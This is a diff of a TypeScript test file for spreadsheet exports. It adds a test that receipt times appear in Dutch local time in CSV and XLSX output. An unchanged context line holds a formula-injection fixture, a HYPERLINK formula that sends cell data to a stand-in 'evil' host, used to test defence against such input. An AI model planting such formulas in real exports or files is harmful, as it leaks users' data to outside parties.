@@ -157,6 +157,25 @@ describe("exports", () => {
     expect(windowPot?.disbursedCents).toBe(123_456_79n);
   });
 
+  it("writes a plan's receipt on the Dutch clock, as the drill-down page shows it, and says so", async () => {
+    // Received at 00:30 on 1 April 2014 in Amsterdam: still 31 March in UTC.
+    const at = new Date("2014-03-31T22:30:00Z");
+    const id = await f.createPlan([{ year: 2014, cents: 5_00n }]);
+    await prisma.plan.update({ where: { id }, data: { receivedAt: at, completeReceivedAt: at } });
+    await tx((t) => reserveForPlan(t, { planId: id, actorId: "test" }));
+    const { reference } = await prisma.plan.findUniqueOrThrow({ where: { id }, select: { reference: true } });
+    const table = await buildTable("plans", {
+      scope,
+      drill: { potId: f.windowPotId, measure: "reserved", sort: "amount", page: 1 },
+    });
+    const column = table.columns.findIndex((c) => c.header.startsWith("Ontvangen"));
+    expect(table.columns[column]?.header).toBe("Ontvangen (Nederlandse tijd)");
+    const csv = parse(toCsv(table), { bom: true }) as string[][];
+    const xlsx = await readXlsx(await toXlsx(table));
+    expect(csv.find((r) => r[0] === reference)?.[column]).toBe("2014-04-01 00:30");
+    expect(xlsx.find((r) => r[0] === reference)?.[column]).toBe("2014-04-01 00:30");
+  });
+
   describe("with an applicant's formula as plan title and organisation name", () => {
     const hostile = '=HYPERLINK("https://evil/?"&A1,"x")';
     const table: ExportTable = {
